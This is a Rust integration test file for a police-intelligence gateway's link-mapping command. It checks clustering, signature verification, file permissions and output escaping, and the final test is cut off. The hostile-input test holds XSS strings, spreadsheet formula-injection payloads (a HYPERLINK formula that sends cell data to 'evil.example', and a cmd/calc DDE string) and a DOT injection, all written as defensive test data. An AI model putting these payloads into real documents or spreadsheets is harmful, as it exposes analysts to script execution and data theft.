//! `pis-gateway map` on a synthetic set with planted links.

use age::secrecy::ExposeSecret;
use serde_json::{json, Value};
use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

fn doc(reference: &str, form: &str, day: u32, locality: &str, answers: Value) -> Value {
    json!({
        "schema": "pis-gateway/submission/v1", "marking": "OFFICIAL-SENSITIVE",
        "reference": reference, "received_at": format!("2026-10-{day:02}T09:00:00Z"),
        "form": form, "form_version": 1, "priority": "ROUTINE", "reason_codes": [],
        "route": "police_intelligence", "view": "full", "localities": [locality],
        "answers": answers, "notes": []
    })
}

fn place(text: &str) -> Value {
    json!({"location_type": "OTHER", "description_landmark": text})
}

/// 43 submissions: the planted links, and 30 unrelated reports.
fn synthetic() -> Vec<Value> {
    let mut d = vec![
        // The same phone in three formats.
        doc(
            "PIS-A001-0001",
            "professional",
            1,
            "SCARBOROUGH",
            json!({"phones": [{"number": "07700 900461"}], "locations": [place("A1 place")]}),
        ),
        doc(
            "PIS-A001-0002",
            "professional",
            2,
            "SCARBOROUGH",
            json!({"phones": [{"number": "+44 7700 900461"}], "locations": [place("A2 place")]}),
        ),
        doc(
            "PIS-A001-0003",
            "community",
            3,
            "SCARBOROUGH",
            json!({"phones_or_online": [{"type": "PHONE", "value": "0044 7700-900461"}], "places": [{"street_or_landmark": "A3 place"}]}),
        ),
        // A partial plate and a full one: a possible link, not a merge.
        doc(
            "PIS-B001-0001",
            "professional",
            4,
            "SELBY",
            json!({"vehicles": [{"registration": "YX?? KCD"}], "locations": [place("B1 place")]}),
        ),
        doc(
            "PIS-B001-0002",
            "professional",
            5,
            "SELBY",
            json!({"vehicles": [{"registration": "yx21kcd"}], "locations": [place("B2 place")]}),
        ),
        // The same postcode spaced differently.
        doc(
            "PIS-C001-0001",
            "professional",
            6,
            "CITY_OF_YORK",
            json!({"locations": [{"location_type": "SHOP", "postcode": "YO1 7HH", "description_landmark": "C1 place"}]}),
        ),
        doc(
            "PIS-C001-0002",
            "community",
            7,
            "CITY_OF_YORK",
            json!({"places": [{"street_or_landmark": "C2 place", "postcode": "yo17hh"}]}),
        ),
        // A nickname shared by two people in two reports: a possible link, not a merge (Sam is
        // named, so "big t" is not only Tyler's).
        doc(
            "PIS-D001-0001",
            "professional",
            8,
            "HARROGATE",
            json!({"people": [{"role": "PERSON_POSING_RISK", "forename": "Tyler", "surname": "Reeve", "dob": "1995-05-05", "aliases_nicknames": "Big T"}], "locations": [place("D1 place")]}),
        ),
        doc(
            "PIS-D001-0002",
            "community",
            9,
            "HARROGATE",
            json!({"people": [{"name": "Sam", "nickname": "big t"}], "places": [{"street_or_landmark": "D2 place"}]}),
        ),
        // The same name with two dates of birth: a possible link, not a merge.
        doc(
            "PIS-E001-0001",
            "professional",
            10,
            "CRAVEN",
            json!({"people": [{"role": "CHILD_AT_RISK", "forename": "Kai", "surname": "Brown", "dob": "2009-01-01"}], "locations": [place("E1 place")]}),
        ),
        doc(
            "PIS-E001-0002",
            "professional",
            11,
            "CRAVEN",
            json!({"people": [{"role": "CHILD_AT_RISK", "forename": "Kai", "surname": "Brown", "dob": "2009-02-02"}], "locations": [place("E2 place")]}),
        ),
        // A decoy: only a common first name in common.
        doc(
            "PIS-F001-0001",
            "professional",
            12,
            "RYEDALE",
            json!({"people": [{"role": "ASSOCIATE_OR_PEER", "forename": "Jay"}], "locations": [place("F1 place")]}),
        ),
        doc(
            "PIS-F001-0002",
            "community",
            13,
            "RYEDALE",
            json!({"people": [{"name": "Jay"}], "places": [{"street_or_landmark": "F2 place"}]}),
        ),
    ];
    for i in 0..30 {
        d.push(doc(
            &format!("PIS-G{:03}-0001", i),
            "professional",
            14 + (i % 15) as u32,
            "HAMBLETON",
            json!({"phones": [{"number": format!("07700 9{:05}", 10_000 + i)}], "locations": [place(&format!("G{i} place"))]}),
        ));
    }
    d
}

/// Seals `doc` to `key` as the gateway does: signed with the (example) signing key.
fn seal(doc: &Value, key: &age::x25519::Identity) -> Vec<u8> {
    let signed = crate::helpers::signer().sign_document(doc.as_object().cloned().expect("object"));
    seal_bytes(&signed, key)
}

/// Seals bytes as they are: a forger's envelope, signed or not.
fn seal_bytes(plain: &[u8], key: &age::x25519::Identity) -> Vec<u8> {
    let route = pis_gateway::routing::Route {
        name: "police_intelligence".into(),
        mailbox: "x@example.invalid".into(),
        view: pis_gateway::routing::View::Full,
        role: pis_gateway::routing::Role::PoliceIntelligence,
        localities: vec![],
        fallback: false,
        ack_immediate_minutes: None,
        ack_priority_minutes: None,
        officer_actions: Vec::new(),
        recipients: vec![key.to_public()],
        officers: vec![],
    };
    pis_gateway::seal::encrypt(plain, &route).expect("sealed")
}

/// The gateway's public signing keys, as `check-config` prints them.
fn signer_file(dir: &Path) -> std::path::PathBuf {
    let path = dir.join("signing-keys.txt");
    let key = crate::helpers::signer();
    std::fs::write(
        &path,
        format!(
            "signing key {} {}\n",
            key.public().id(),
            key.public().to_base64()
        ),
    )
    .expect("keys file");
    path
}

/// A fresh analyst's age identity, and its file in `dir`.
fn analyst_key(dir: &Path) -> (age::x25519::Identity, std::path::PathBuf) {
    let key = age::x25519::Identity::generate();
    let key_file = dir.join("analyst.key");
    std::fs::write(&key_file, format!("{}\n", key.to_string().expose_secret())).expect("key");
    (key, key_file)
}

fn mode(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p).expect("meta").permissions().mode() & 0o777
}

#[test]
fn planted_links_become_exactly_the_expected_clusters() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (key, key_file) = analyst_key(dir.path());
    let inputs = dir.path().join("in");
    let maildir = dir.path().join("Maildir/new");
    std::fs::create_dir_all(&inputs).expect("dir");
    std::fs::create_dir_all(&maildir).expect("dir");
    for (i, d) in synthetic().iter().enumerate() {
        let env = seal(d, &key);
        let reference = d["reference"].as_str().expect("reference");
        if i % 7 == 3 {
            // Some arrive as delivered email, armored, with CRLF line ends.
            let armored = pis_gateway::seal::armor(&env)
                .expect("armor")
                .replace('\n', "\r\n");
            let eml = format!("Subject: [OFFICIAL-SENSITIVE] PIS {reference} ROUTINE\r\nContent-Type: multipart/mixed\r\n\r\n{armored}");
            std::fs::write(maildir.join(format!("{i}.eml")), eml).expect("eml");
        } else {
            std::fs::write(inputs.join(format!("{reference}.age")), env).expect("age");
        }
    }
    // A corrupted envelope: reported and skipped.
    let mut broken = seal(&synthetic()[0], &key);
    let n = broken.len();
    broken[n - 10] ^= 0xff;
    std::fs::write(inputs.join("PIS-BROK-EN00.age"), broken).expect("broken");

    let out = dir.path().join("out");
    let signers = signer_file(dir.path());
    let run = Command::new(env!("CARGO_BIN_EXE_pis-gateway"))
        .args(["map", "--identity"])
        .arg(&key_file)
        .arg("--signer")
        .arg(&signers)
        .arg("--out")
        .arg(&out)
        .arg(&inputs)
        .arg(dir.path().join("Maildir"))
        .output()
        .expect("map runs");
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(run.status.success(), "{stderr}");
    assert!(
        stderr.contains("PIS-BROK-EN00.age") && stderr.contains("skipped"),
        "{stderr}"
    );
    assert!(stderr.contains("43 submissions mapped"), "{stderr}");

    let map: Value =
        serde_json::from_slice(&std::fs::read(out.join("map.json")).expect("json")).expect("json");
    assert_eq!(map["marking"], "OFFICIAL-SENSITIVE");
    let g = &map["map"];
    let label = |id: &Value| {
        g["entities"][id.as_u64().expect("id") as usize]["label"]
            .as_str()
            .expect("label")
            .to_string()
    };
    let clusters: BTreeSet<BTreeSet<String>> = g["clusters"]
        .as_array()
        .expect("clusters")
        .iter()
        .map(|c| c.as_array().expect("ids").iter().map(label).collect())
        .collect();
    let set = |v: &[&str]| {
        v.iter()
            .map(|s| s.to_string())
            .collect::<BTreeSet<String>>()
    };
    let mut expected: BTreeSet<BTreeSet<String>> = [
        set(&["+447700900461", "A1 place", "A2 place", "A3 place"]),
        set(&["YX??KCD", "B1 place"]),
        set(&["YX21 KCD", "B2 place"]),
        set(&["YO1 7HH", "C1 place", "C2 place"]),
        set(&["Tyler Reeve", "D1 place"]),
        set(&["Sam", "D2 place"]),
        set(&["Kai Brown", "E1 place"]),
        set(&["Kai Brown", "E2 place"]),
        set(&["Jay", "F1 place"]),
        set(&["Jay", "F2 place"]),
    ]
    .into_iter()
    .collect();
    for i in 0..30 {
        let phone = format!("+4477009{:05}", 10_000 + i);
        expected.insert([phone, format!("G{i} place")].into_iter().collect());
    }
    assert_eq!(clusters, expected);
    assert_eq!(
        g["clusters"][0].as_array().map(Vec::len),
        Some(4),
        "largest first"
    );

    let possible: BTreeSet<(String, String, String)> = g["possible_links"]
        .as_array()
        .expect("possible")
        .iter()
        .map(|p| {
            (
                label(&p["source"]),
                label(&p["target"]),
                p["reason"].as_str().expect("reason").to_string(),
            )
        })
        .collect();
    assert_eq!(
        possible,
        [
            (
                "Kai Brown".to_string(),
                "Kai Brown".to_string(),
                "same name, different date of birth".to_string()
            ),
            (
                "YX??KCD".to_string(),
                "YX21 KCD".to_string(),
                "partial plate matches this registration".to_string()
            ),
            (
                "Tyler Reeve".to_string(),
                "Sam".to_string(),
                "same nickname".to_string()
            ),
        ]
        .into_iter()
        .collect(),
        "no link for a shared first name"
    );

    // Links carry where they were seen.
    let link = g["links"]
        .as_array()
        .expect("links")
        .iter()
        .find(|l| label(&l["source"]) == "+447700900461" || label(&l["target"]) == "+447700900461")
        .expect("a phone link");
    assert!(link["seen"][0]["reference"]
        .as_str()
        .is_some_and(|r| r.starts_with("PIS-A001")));
    assert!(link["seen"][0]["date"]
        .as_str()
        .is_some_and(|d| d.starts_with("2026-10-0")));

    for f in [
        "map.html",
        "map.json",
        "map.dot",
        "links.csv",
        "map.graphml",
        "i2.csv",
    ] {
        assert_eq!(mode(&out.join(f)), 0o600, "{f}");
        let text = std::fs::read_to_string(out.join(f)).expect("read");
        assert!(text.contains("OFFICIAL-SENSITIVE"), "{f} is marked");
    }
    let html = std::fs::read_to_string(out.join("map.html")).expect("html");
    let (markup, script) = split_page(&html);
    for external in ["http://", "https://", "src=", "@import", "url("] {
        assert!(
            !markup.contains(external),
            "map.html requests nothing from outside ({external})"
        );
    }
    // The bundled script names the SVG namespace, and no other address.
    let addresses: BTreeSet<&str> = script
        .match_indices("http")
        .map(|(i, _)| script[i..].split('"').next().unwrap_or(""))
        .filter(|a| a.starts_with("http:") || a.starts_with("https:"))
        .collect();
    assert_eq!(
        addresses,
        ["http://www.w3.org/2000/svg"].into_iter().collect(),
        "addresses in the script"
    );
    assert!(markup.contains("<svg") && markup.contains("Hotspots") && markup.contains("Timeline"));
    // The page's data: every entity of this small set, each with its submissions.
    let data = page_data(&html);
    let nodes = data["nodes"].as_array().expect("nodes");
    assert_eq!(Some(nodes.len()), g["entities"].as_array().map(Vec::len));
    let phone = nodes
        .iter()
        .find(|n| n["key"] == "+447700900461")
        .expect("the shared phone is drawn");
    let subs = &data["submissions"];
    let refs: BTreeSet<&str> = phone["subs"]
        .as_array()
        .expect("subs")
        .iter()
        .map(|i| {
            subs[i.as_u64().expect("index") as usize][0]
                .as_str()
                .expect("ref")
        })
        .collect();
    assert_eq!(
        refs,
        ["PIS-A001-0001", "PIS-A001-0002", "PIS-A001-0003"]
            .into_iter()
            .collect()
    );
    assert_eq!(data["possible"].as_array().map(Vec::len), Some(3));

    let csv = std::fs::read_to_string(out.join("links.csv")).expect("csv");
    assert!(csv
        .lines()
        .any(|l| l.contains("possible: same name, different date of birth")));
    assert!(std::fs::read_to_string(out.join("map.dot"))
        .expect("dot")
        .starts_with("// OFFICIAL-SENSITIVE\ngraph"));

    // i2 Analyst's Notebook: entity type, identity and label at each end, the link's type,
    // label and dates.
    let i2 = std::fs::read_to_string(out.join("i2.csv")).expect("i2");
    let mut lines = i2.lines();
    assert_eq!(
        lines.next(),
        Some("entity1_type,entity1_identity,entity1_label,entity2_type,entity2_identity,entity2_label,link_type,link_label,date_from,date_to,references,marking,entity1_note,entity2_note,link_note")
    );
    let rows: Vec<&str> = lines.collect();
    assert_eq!(
        rows.len(),
        g["links"].as_array().map_or(0, Vec::len) + 3,
        "one row per link and possible link"
    );
    assert!(
        rows.iter().any(|r| r
            .starts_with("\"Telephone\",\"phone:+447700900461\",\"'+447700900461\",\"Location\",")
            && r.contains("\"Named together\",\"1 submission\",\"2026-10-0")),
        "{i2}"
    );
    assert!(
        rows.iter().any(|r| r.starts_with("\"Person\",\"person:kai brown|2009-01-01\",\"Kai Brown\",\"Person\",\"person:kai brown|2009-02-02\"")
            && r.contains("\"Possible link\",\"same name, different date of birth\",,,,\"OFFICIAL-SENSITIVE\"")),
        "{i2}"
    );

    // GraphML for Gephi and yEd: every entity a node, every link and possible link an edge.
    let graphml = std::fs::read_to_string(out.join("map.graphml")).expect("graphml");
    assert!(graphml
        .starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- OFFICIAL-SENSITIVE -->"));
    assert_eq!(
        graphml.matches("<node id=").count(),
        g["entities"].as_array().map_or(0, Vec::len)
    );
    assert_eq!(
        graphml.matches("<edge id=").count(),
        g["links"].as_array().map_or(0, Vec::len) + 3
    );
    assert!(graphml.contains("<data key=\"link\">possible</data><data key=\"reason\">partial plate matches this registration</data>"));
    assert!(graphml.trim_end().ends_with("</graph>\n</graphml>"));

    // Filters.
    let out2 = dir.path().join("out2");
    let run = Command::new(env!("CARGO_BIN_EXE_pis-gateway"))
        .args(["map", "--identity"])
        .arg(&key_file)
        .arg("--signer")
        .arg(&signers)
        .args([
            "--locality",
            "scarborough",
            "--since",
            "2026-10-02",
            "--out",
        ])
        .arg(&out2)
        .arg(&inputs)
        .arg(dir.path().join("Maildir"))
        .output()
        .expect("map runs");
    assert!(
        String::from_utf8_lossy(&run.stderr).contains("2 submissions mapped"),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    // The locality's Level 2 pack: the phone seen in both reports, and the week they fell in.
    let pack = out2.join("level2-SCARBOROUGH.html");
    assert_eq!(mode(&pack), 0o600);
    let pack = std::fs::read_to_string(pack).expect("pack");
    assert!(pack.contains("OFFICIAL-SENSITIVE") && pack.contains("Level 2 pack: SCARBOROUGH"));
    assert!(section(&pack, "Phones seen in several reports").contains("+447700900461"));
    assert!(section(&pack, "Vehicles seen in several reports").contains("None in this period"));
    assert!(section(&pack, "Timeline").contains("2026-09-28</td><td>2</td>"));
    assert!(!pack.contains("<script"), "the pack runs nothing");
    assert!(
        !out.join("level2-SCARBOROUGH.html").exists(),
        "only with --locality"
    );

    // Harrogate: the person posing risk, with their links.
    let out3 = dir.path().join("out3");
    let (ok, stderr) = run_map(
        dir.path(),
        &key_file,
        &out3,
        &["--locality", "Harrogate"],
        &inputs,
    );
    assert!(ok, "{stderr}");
    let pack = std::fs::read_to_string(out3.join("level2-HARROGATE.html")).expect("pack");
    let risk = section(&pack, "Persons posing risk with the most links");
    assert!(risk.contains("<td>Tyler Reeve</td>"), "{risk}");
    assert!(
        !risk.contains("Sam"),
        "Sam is not given as posing risk: {risk}"
    );
    assert!(section(&pack, "Hotspots").contains("D1 place"));
}

/// The text from the `<h2>` starting with `heading` to the next `<h2>`.
fn section<'a>(html: &'a str, heading: &str) -> &'a str {
    let start = html
        .find(&format!("<h2>{heading}"))
        .unwrap_or_else(|| panic!("no section {heading}"));
    let rest = &html[start + 4..];
    &rest[..rest.find("<h2>").unwrap_or(rest.len())]
}

/// map.html without its two script elements, and the bundled script's text.
fn split_page(html: &str) -> (String, &str) {
    let open = "<script>";
    let start = html.find(open).expect("the page's script");
    let end = start + html[start..].find("</script>").expect("its end");
    let script = &html[start + open.len()..end];
    let data_start = html
        .find("<script type=\"application/json\"")
        .expect("the data block");
    let markup = format!("{}{}", &html[..data_start], &html[end..]);
    (markup, script)
}

/// The JSON data block of map.html.
fn page_data(html: &str) -> Value {
    let open = "<script type=\"application/json\" id=\"map-data\">";
    let start = html.find(open).expect("data block") + open.len();
    let end = start + html[start..].find("</script>").expect("its end");
    serde_json::from_str(&html[start..end]).expect("the data is JSON")
}

/// Runs `map` over `inputs` into `out`, trusting the example signing key.
fn run_map(
    dir: &Path,
    key_file: &Path,
    out: &Path,
    extra: &[&str],
    inputs: &Path,
) -> (bool, String) {
    let run = Command::new(env!("CARGO_BIN_EXE_pis-gateway"))
        .args(["map", "--identity"])
        .arg(key_file)
        .arg("--signer")
        .arg(signer_file(dir))
        .args(extra)
        .arg("--out")
        .arg(out)
        .arg(inputs)
        .output()
        .expect("map runs");
    (
        run.status.success(),
        String::from_utf8_lossy(&run.stderr).into_owned(),
    )
}

#[test]
fn hostile_names_forged_references_and_forged_documents_cannot_harm_the_analyst() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (key, key_file) = analyst_key(dir.path());
    let inputs = dir.path().join("in");
    std::fs::create_dir_all(&inputs).expect("dir");
    let xss = "<img src=x onerror=alert(1)>";
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let dot_break = "x\"]; n0 -- n1 [label=\"owned\nnext";
    let script_break = "</script><script>alert(3)</script>\u{2028}<!--\u{2029}x";
    let hostile = doc(
        "PIS-H001-0001",
        "professional",
        1,
        "SELBY",
        json!({"people": [
            {"role": "PERSON_POSING_RISK", "forename": xss, "aliases_nicknames": formula},
            {"role": "CHILD_AT_RISK", "forename": dot_break},
            {"role": "ASSOCIATE_OR_PEER", "forename": script_break}
        ], "phones": [{"number": "+44 7700 900123"}], "locations": [place("@SUM(1+1)*cmd|' /C calc'!A0"), place(formula)]}),
    );
    std::fs::write(inputs.join("hostile.age"), seal(&hostile, &key)).expect("write");
    // The same reference sealed for a second route: one submission, not two.
    let mut restricted = hostile.clone();
    restricted["route"] = json!("mace_selby");
    restricted["view"] = json!("restricted");
    std::fs::write(inputs.join("hostile-mace.age"), seal(&restricted, &key)).expect("write");
    // A forged reference, correctly signed (the signature is not what stops it).
    let forged_ref = doc(
        "PIS-<img src=x onerror=alert(2)>",
        "professional",
        2,
        "SELBY",
        json!({"people": [{"forename": "Forged Ref"}]}),
    );
    std::fs::write(inputs.join("forged-reference.age"), seal(&forged_ref, &key)).expect("write");
    // A forged document: age to the analyst's public key, signed by someone else.
    let intruder = pis_gateway::signing::SigningKey::generate();
    let forged = doc(
        "PIS-H001-0002",
        "professional",
        3,
        "SELBY",
        json!({"people": [{"forename": "Intruder Planted"}], "phones": [{"number": "+44 7700 900123"}]}),
    );
    let forged_bytes = intruder.sign_document(forged.as_object().cloned().expect("object"));
    std::fs::write(
        inputs.join("forged-signature.age"),
        seal_bytes(&forged_bytes, &key),
    )
    .expect("write");
    // And one with no signature at all.
    let unsigned = doc(
        "PIS-H001-0003",
        "professional",
        4,
        "SELBY",
        json!({"people": [{"forename": "Unsigned Planted"}]}),
    );
    std::fs::write(
        inputs.join("unsigned.age"),
        seal_bytes(&serde_json::to_vec(&unsigned).expect("json"), &key),
    )
    .expect("write");

    // An output folder that already exists, shared on purpose: its mode is left alone.
    let out = dir.path().join("shared-out");
    std::fs::create_dir(&out).expect("dir");
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o750)).expect("chmod");
    }
    let (ok, stderr) = run_map(dir.path(), &key_file, &out, &[], &inputs);
    assert!(ok, "{stderr}");
    assert!(stderr.contains("1 submissions mapped"), "{stderr}");
    for (file, why) in [
        ("forged-reference.age", "reference"),
        ("forged-signature.age", "refused"),
        ("unsigned.age", "not signed by the gateway"),
    ] {
        assert!(
            stderr.lines().any(|l| l.contains(file) && l.contains(why)),
            "{file} named with {why}: {stderr}"
        );
    }
    assert_eq!(mode(&out), 0o750, "an existing folder keeps its mode");

    let html = std::fs::read_to_string(out.join("map.html")).expect("html");
    assert!(!html.contains("<img"), "{html}");
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
    // The page's data holds the names as JSON text that cannot end its element: the page has
    // exactly its own two script elements.
    assert_eq!(html.matches("<script").count(), 2, "{html}");
    assert_eq!(html.matches("</script").count(), 2);
    assert!(!html.contains("<!--"));
    let block = html
        .split("id=\"map-data\">")
        .nth(1)
        .and_then(|r| r.split("</script>").next())
        .expect("data block");
    assert!(
        !block.contains('\u{2028}') && !block.contains('\u{2029}'),
        "{block}"
    );
    let names: BTreeSet<String> = page_data(&html)["nodes"]
        .as_array()
        .expect("nodes")
        .iter()
        .filter_map(|n| n["label"].as_str().map(str::to_string))
        .collect();
    assert!(
        names.contains(xss) && names.contains(script_break),
        "{names:?}"
    );
    assert!(!html.contains("Intruder Planted") && !html.contains("Unsigned Planted"));
    assert!(!html.contains("Forged Ref"));
    let csp = html
        .split("http-equiv=\"Content-Security-Policy\" content=\"")
        .nth(1)
        .and_then(|r| r.split('"').next())
        .expect("a CSP in the page");
    assert!(csp.starts_with("default-src 'none'"), "{csp}");
    // Scripts only by hash: the one bundled script, nothing written into the page by a
    // submitter could run; and nothing may load (no img-src, connect-src, …).
    assert!(!csp.contains("unsafe"), "{csp}");
    let scripts: Vec<&str> = csp
        .split(';')
        .map(str::trim)
        .filter(|d| d.starts_with("script-src"))
        .collect();
    assert_eq!(scripts.len(), 1, "{csp}");
    assert_eq!(scripts[0].split(' ').count(), 2, "one hash: {csp}");
    assert!(scripts[0].contains("'sha256-"), "{csp}");
    for d in [
        "img-src",
        "connect-src",
        "frame-src",
        "font-src",
        "media-src",
    ] {
        assert!(!csp.contains(d), "{csp}");
    }
    assert!(
        !html.contains(" style=\""),
        "no style attributes for the CSP to refuse"
    );

    let csv = std::fs::read_to_string(out.join("links.csv")).expect("csv");
    for line in csv.lines().skip(1) {
        for cell in line.split(',') {
            let inner = cell.trim_start_matches('"');
            assert!(
                !inner.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell} in {line}"
            );
        }
    }
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(csv.contains("\"'+447700900123\""), "{csv}");
    assert!(csv.contains("\"'@SUM(1+1)"), "{csv}");
    let i2 = std::fs::read_to_string(out.join("i2.csv")).expect("i2");
    for line in i2.lines().skip(1) {
        for cell in line.split("\",\"") {
            let inner = cell.trim_start_matches('"');
            assert!(
                !inner.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell} in {line}"
            );
        }
    }
    assert!(i2.contains("\"'=HYPERLINK("), "{i2}");
    let graphml = std::fs::read_to_string(out.join("map.graphml")).expect("graphml");
    assert!(
        !graphml.contains("<img") && !graphml.contains("<script"),
        "{graphml}"
    );
    assert!(graphml.contains("&lt;img src=x onerror=alert(1)&gt;"));
    assert!(
        // The nicknames (split at the comma) on their person, escaped.
        graphml.contains("<data key=\"aliases\">&quot;click&quot;) =HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1</data>"),
        "{graphml}"
    );

    let dot = std::fs::read_to_string(out.join("map.dot")).expect("dot");
    assert!(
        !dot.contains("owned\n"),
        "no raw line break in a label: {dot}"
    );
    assert!(
        dot.lines().all(|l| !l.contains("n0 -- n1 [label=\"owned")),
        "{dot}"
    );
    assert!(
        dot.contains("x\\\"]; n0 -- n1 [label=\\\"owned next"),
        "{dot}"
    );

    // With --allow-unsigned the unsigned and forged ones are read, each named as unverified.
    let out2 = dir.path().join("new/out2");
    let (ok, stderr) = run_map(dir.path(), &key_file, &out2, &["--allow-unsigned"], &inputs);
    assert!(ok, "{stderr}");
    assert!(stderr.contains("3 submissions mapped"), "{stderr}");
    assert!(
        stderr
            .lines()
            .any(|l| l.contains("unsigned.age") && l.contains("warning")),
        "{stderr}"
    );
    assert_eq!(mode(&out2), 0o700, "a folder it creates is private");
    assert_eq!(mode(&dir.path().join("new")), 0o700);
}

/// Inputs are opened in runs on several threads; a forged document among valid ones, wherever
/// it falls in a run, is refused by name, and every valid one around it is mapped.
#[test]
fn forged_documents_among_many_valid_ones_are_each_refused_by_name() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (key, key_file) = analyst_key(dir.path());
    let inputs = dir.path().join("in");
    std::fs::create_dir_all(&inputs).expect("dir");
    let signer = crate::helpers::signer();
    // Files are read in name order, v000 … v149: the forged ones sit at the first and last
    // of the first 128, the next one and one further on.
    let forged_at = [0usize, 127, 128, 140];
    for i in 0..150 {
        let reference = format!("PIS-B{:03}-0001", i);
        let d = doc(
            &reference,
            "professional",
            1 + (i % 28) as u32,
            "SELBY",
            json!({"people": [{"role": "PERSON_POSING_RISK", "forename": format!("Valid{i}")}]}),
        );
        let sealed = if forged_at.contains(&i) {
            // Signed by the gateway, then altered: the real key id, a signature that no
            // longer matches.
            let signed = signer.sign_document(d.as_object().cloned().expect("object"));
            let mut v: Value = serde_json::from_slice(&signed).expect("json");
            v["answers"]["people"][0]["forename"] = json!(format!("Planted{i}"));
            seal_bytes(&serde_json::to_vec(&v).expect("json"), &key)
        } else {
            seal(&d, &key)
        };
        std::fs::write(inputs.join(format!("v{i:03}.age")), sealed).expect("write");
    }
    let out = dir.path().join("out");
    let (ok, stderr) = run_map(dir.path(), &key_file, &out, &[], &inputs);
    assert!(ok, "{stderr}");
    assert!(
        stderr.contains("146 submissions mapped (4 inputs skipped)"),
        "{stderr}"
    );
    let refused: Vec<&str> = stderr
        .lines()
        .filter(|l| l.contains("refused: the gateway's signature does not match"))
        .collect();
    assert_eq!(refused.len(), 4, "{stderr}");
    for i in forged_at {
        let name = format!("v{i:03}.age");
        assert!(
            refused.iter().any(|l| l.contains(&name)),
            "{name}: {stderr}"
        );
    }
    let map: Value =
        serde_json::from_slice(&std::fs::read(out.join("map.json")).expect("json")).expect("json");
    let references: BTreeSet<&str> = map["map"]["reports"]
        .as_array()
        .expect("reports")
        .iter()
        .filter_map(|r| r["reference"].as_str())
        .collect();
    assert_eq!(references.len(), 146);
    for i in 0..150 {
        let reference = format!("PIS-B{:03}-0001", i);
        assert_eq!(
            references.contains(reference.as_str()),
            !forged_at.contains(&i),
            "{reference}"
        );
    }
    let html = std::fs::read_to_string(out.join("map.html")).expect("html");
    assert!(!html.contains("Planted"), "nothing from a forged document");
}

/// What `open --extract` and the email leave beside a report: `<reference>-N.age` files holding
/// a photo or a PDF. The map leaves them unopened and counts each report's files from its own
/// signed document, instead of refusing them as broken documents.
#[test]
fn evidence_files_beside_their_reports_are_counted_from_the_report_not_refused() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (key, key_file) = analyst_key(dir.path());
    let inputs = dir.path().join("in");
    std::fs::create_dir_all(&inputs).expect("dir");
    let file_facts = |n: usize| {
        json!({"n": n, "type": "image", "media_type": "image/jpeg",
               "sha256_received": "00".repeat(32), "sha256_sealed": "11".repeat(32),
               "bytes_received": 2048, "bytes_sealed": 1024, "width": 64, "height": 48})
    };
    let mut with_files = doc(
        "PIS-E001-0001",
        "professional",
        1,
        "WHITBY",
        json!({"phones": [{"number": "07700 900777"}]}),
    );
    with_files["attachments"] = json!([file_facts(1), file_facts(2)]);
    let without = doc(
        "PIS-E001-0002",
        "community",
        2,
        "WHITBY",
        json!({"phones": [{"number": "07700 900777"}]}),
    );
    std::fs::write(inputs.join("PIS-E001-0001.age"), seal(&with_files, &key)).expect("write");
    std::fs::write(inputs.join("PIS-E001-0002.age"), seal(&without, &key)).expect("write");
    for n in 1..=2 {
        // A JPEG's first bytes, sealed as the gateway seals an evidence file.
        let photo = seal_bytes(b"\xff\xd8\xff\xe0 not a document", &key);
        std::fs::write(inputs.join(format!("PIS-E001-0001-{n}.age")), photo).expect("write");
    }
    // A name that only looks like an evidence file is still opened (and reported if bad).
    std::fs::write(
        inputs.join("PIS-E001-0001-x.age"),
        seal_bytes(b"not a document", &key),
    )
    .expect("write");

    let out = dir.path().join("out");
    let (ok, stderr) = run_map(dir.path(), &key_file, &out, &[], &inputs);
    assert!(ok, "{stderr}");
    assert!(stderr.contains("2 submissions mapped"), "{stderr}");
    assert!(
        stderr.contains("2 evidence files") && stderr.contains("list 2 files"),
        "{stderr}"
    );
    assert!(
        !stderr.contains("PIS-E001-0001-1.age") && !stderr.contains("PIS-E001-0001-2.age"),
        "{stderr}"
    );
    assert!(
        stderr.contains("PIS-E001-0001-x.age: decrypted, but not a JSON document"),
        "{stderr}"
    );
    let map: Value =
        serde_json::from_slice(&std::fs::read(out.join("map.json")).expect("json")).expect("json");
    let files_of = |reference: &str| {
        map["map"]["reports"]
            .as_array()
            .expect("reports")
            .iter()
            .find(|r| r["reference"] == reference)
            .map(|r| r["attachments"].clone())
    };
    assert_eq!(files_of("PIS-E001-0001"), Some(json!(2)));
    assert_eq!(files_of("PIS-E001-0002"), Some(json!(0)));
}

#[test]
fn the_analysts_workspace_is_kept_0600_and_its_merge_survives_new_reports() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (key, key_file) = analyst_key(dir.path());
    let inputs = dir.path().join("in");
    std::fs::create_dir_all(&inputs).expect("dir");
    let write = |d: &Value| {
        let reference = d["reference"].as_str().expect("reference");
        std::fs::write(inputs.join(format!("{reference}.age")), seal(d, &key)).expect("age");
    };
    for d in synthetic() {
        write(&d);
    }
    let ws = dir.path().join("workspace.json");
    let out = dir.path().join("out");
    // A new workspace is created, the analyst's own.
    let (ok, stderr) = run_map(
        dir.path(),
        &key_file,
        &out,
        &["--workspace", ws.to_str().expect("utf-8")],
        &inputs,
    );
    assert!(ok, "{stderr}");
    assert_eq!(mode(&ws), 0o600);
    let data = page_data(&std::fs::read_to_string(out.join("map.html")).expect("html"));
    assert_eq!(data["workspace"]["decisions"], json!([]));

    // The analyst decides the two Kai Browns are one (as the page's export writes it), in a
    // file others could read.
    let hostile = "=cmd|' /C calc'!A0 <b>bold</b>";
    let decided = json!({"marking": "OFFICIAL-SENSITIVE", "version": 1, "decisions": [
        {"action": "merge", "members": ["person:kai brown|2009-01-01", "person:kai brown|2009-02-02"]}
    ], "notes": [
